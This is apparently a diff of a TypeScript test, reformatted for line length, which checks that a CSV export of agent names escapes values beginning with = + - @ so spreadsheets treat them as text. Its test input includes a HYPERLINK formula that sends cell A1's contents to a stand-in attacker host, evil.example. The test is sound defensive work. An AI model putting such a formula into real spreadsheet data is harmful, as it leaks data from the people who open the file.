@@ -18,7 +18,15 @@ const report = (names: string[]): NumbersReport => ({
   Periods: [],
   Funnel: [],
   Promise: [],
-  Agents: names.map((Name, i) => ({ StaffID: i + 1, Name, Calls: 3, OrdersCalled: 2, Confirmations: 1, AddedMinor: { EUR: 1250 }, RemovedMinor: { EUR: 300 } })),
+  Agents: names.map((Name, i) => ({
+    StaffID: i + 1,
+    Name,
+    Calls: 3,
+    OrdersCalled: 2,
+    Confirmations: 1,
+    AddedMinor: { EUR: 1250 },
+    RemovedMinor: { EUR: 300 },
+  })),
   Money: [],
   Quiz: [],
   Returns: [],
@@ -31,9 +39,21 @@ describe('the numbers\' "Agenti" CSV', () => {
   it('writes a name that starts with = + - @ as text, never as a formula', () => {
     const t = textsFor(deskNumbersMessages, 'HR');
     const names = ['=HYPERLINK("https://evil.example/?x="&A1;"Klikni")', '+385 1 234', '-2+3', '@SUM(A1)', 'Ana Kovač'];
-    const tables = numbersTables(report(names), t, numberFormats('HR', t.none), textsFor(quizGoalMessages, 'HR'), textsFor(deskReturnReasonLabels, 'HR'));
+    const tables = numbersTables(
+      report(names),
+      t,
+      numberFormats('HR', t.none),
+      textsFor(quizGoalMessages, 'HR'),
+      textsFor(deskReturnReasonLabels, 'HR'),
+    );
     const rows = parseCsv(tableCsv(tables.agents)).slice(1);
-    expect(rows.map((r) => r.cells[0])).toEqual(["'=HYPERLINK(\"https://evil.example/?x=\"&A1;\"Klikni\")", "'+385 1 234", "'-2+3", "'@SUM(A1)", 'Ana Kovač']);
+    expect(rows.map((r) => r.cells[0])).toEqual([
+      '\'=HYPERLINK("https://evil.example/?x="&A1;"Klikni")',
+      "'+385 1 234",
+      "'-2+3",
+      "'@SUM(A1)",
+      'Ana Kovač',
+    ]);
     // The figures beside the name stay as the screen shows them.
     expect(rows[4]!.cells.slice(1, 4)).toEqual(['3', '2', '1']);
   });
